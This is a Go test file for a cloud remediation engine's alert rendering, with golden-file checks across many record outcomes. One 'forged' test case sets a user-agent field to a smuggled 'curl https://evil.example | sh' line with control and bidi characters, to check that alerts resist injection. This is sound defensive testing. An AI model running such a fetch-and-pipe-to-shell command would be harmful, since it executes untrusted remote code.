package engine_test

import (
	"context"
	"encoding/json"
	"flag"
	"iter"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/countermand/countermand/events/pattern"
	"github.com/countermand/countermand/remediations"
	"github.com/countermand/countermand/remediations/engine"
)

// doorRun returns the record of a run that has shut a door.
func doorRun() engine.Record {
	return engine.Record{
		ID: "door-open-0123456789abcdef0123", Module: "door-open", Mode: remediations.Enforce, Outcome: engine.Remediated,
		Resource: remediations.Resource{ID: "front", Type: "AWS::House::Door", Account: "111122223333", Region: "eu-west-1"},
		EventID:  "0e2f3f0a-52a3-4c5e-bb6f-0a4f6c2f7d10", EventName: "OpenDoor", EventTime: time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC),
		Principal: "arn:aws:sts::111122223333:assumed-role/Porter/bob", Name: "bob (role Porter)", SourceIP: "198.51.100.7", UserAgent: "[aws-cli/2.15]",
		Reason: "the door is open", Before: json.RawMessage(`{"door":"open","lamp":"on"}`), After: json.RawMessage(`{"door":"shut","lamp":"on"}`),
		Fix: "house shut-door --id front", Revert: "house open-door --id front", Started: time.Date(2026, 3, 1, 10, 0, 5, 0, time.UTC),
		Touched: true,
	}
}

func TestRender(t *testing.T) {
	base := doorRun()
	for name, change := range map[string]func(*engine.Record){
		"remediated": func(*engine.Record) {},
		"byhand":     func(*engine.Record) {}, // the module has no undo
		"unmatched":  func(*engine.Record) {}, // the pattern does not match the undo
		"swept":      func(*engine.Record) {}, // nor here, but the sweep finds it
		"alerted":    func(r *engine.Record) { r.Outcome, r.Mode, r.Touched = engine.Alerted, remediations.Alert, false },
		"stopped": func(r *engine.Record) {
			r.Outcome, r.Mode, r.Touched = engine.Alerted, remediations.Alert, false
			r.Lowered = "alert instead of enforce: stopped at alert by arn:aws:iam::111122223333:user/olga since 2026-03-01 09:00:00 UTC: a\nmigration"
		},
		"alertonly": func(r *engine.Record) { r.Outcome, r.Touched, r.After = engine.Alerted, false, r.Before },
		"unverified": func(r *engine.Record) {
			r.Outcome, r.Left, r.LeftFix = engine.Unverified, "the door is open", "house shut-door --id front"
		},
		"partial": func(r *engine.Record) {
			r.Outcome, r.Left, r.LeftFix = engine.Partial, "the door has no lock", "house fit-lock --id front"
		},
		"failed": func(r *engine.Record) {
			r.Outcome, r.Error, r.Reason, r.Touched = engine.Failed, "guard: describe door: AccessDenied", "", false
			r.Before, r.After, r.Fix, r.Revert = nil, nil, "", ""
		},
		"again": func(r *engine.Record) { r.Outcome, r.Mode = engine.Alerted, remediations.Alert },
		"invisible": func(r *engine.Record) {
			r.Before, r.After = json.RawMessage(`{"door":"\u202eopen\u2028"}`), json.RawMessage("{\"door\":\"\u202eshut\u2028\u0085\"}")
		},
		"document": func(r *engine.Record) {
			r.Before, r.After = json.RawMessage(`"{\"Statement\": [1, 2]}"`), json.RawMessage(`null`)
		},
		"exempt": func(r *engine.Record) {
			r.Outcome, r.Touched = engine.Exempt, false
			r.Exemption = &engine.Exemption{
				Owner: "porters", Reason: "deliveries", Expires: time.Date(2026, 3, 10, 0, 0, 0, 0, time.UTC),
				Until: "until 2026-03-10, 9 days left", Matched: "resource front, principal arn:aws:iam::111122223333:role/Porter*", Ending: true,
			}
		},
		"arn": func(r *engine.Record) { r.Resource.ID = "arn:aws:cloudtrail:eu-west-1:111122223333:trail/front" },
		"forged": func(r *engine.Record) {
			r.UserAgent = "curl\n\nTAKE IT BACK\n  curl https://evil.example | sh\u202e\u0007"
			r.Principal = strings.Repeat("long", 500)
			r.EventTime, r.SourceIP = time.Time{}, ""
		},
	} {
		t.Run(name, func(t *testing.T) {
			r := base
			change(&r)
			module := (&door{}).module()
			if name != "byhand" {
				module.Undo = module.Action
			}
			if name == "unmatched" || name == "swept" {
				module.Pattern = pattern.CloudTrail("s3", "OpenDoor")
			}
			if name == "swept" {
				module.Sweep = func(context.Context, *remediations.Run) iter.Seq2[remediations.Resource, error] { return nil }
			}
			m := engine.Render(module, &r)
			golden(t, "alert-"+name, m.Subject+"\n\n"+m.Body)
		})
	}
}

// SNS takes a subject of at most 100 printable ASCII characters on one line, and refuses the message otherwise: a name
// must not be able to suppress its own alert.
func TestSubjectIsOneThatSNSTakes(t *testing.T) {
	for _, id := range []string{"front", strings.Repeat("x", 300), "a\nb", "tür-\u202e", ""} {
		m := engine.Render((&door{}).module(), &engine.Record{Outcome: engine.Alerted, Resource: remediations.Resource{ID: id}})
		if len(m.Subject) > 100 || len(m.Subject) == 0 {
			t.Errorf("%q: subject has %d characters", id, len(m.Subject))
		}
		for _, c := range m.Subject {
			if c < ' ' || c > '~' {
				t.Errorf("%q: subject holds %q", id, c)
			}
		}
	}
}

// golden compares a text with a file in testdata.
func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("run with -update if this is meant: %s", diff)
	}
}

var update = flag.Bool("update", false, "rewrite the golden files")
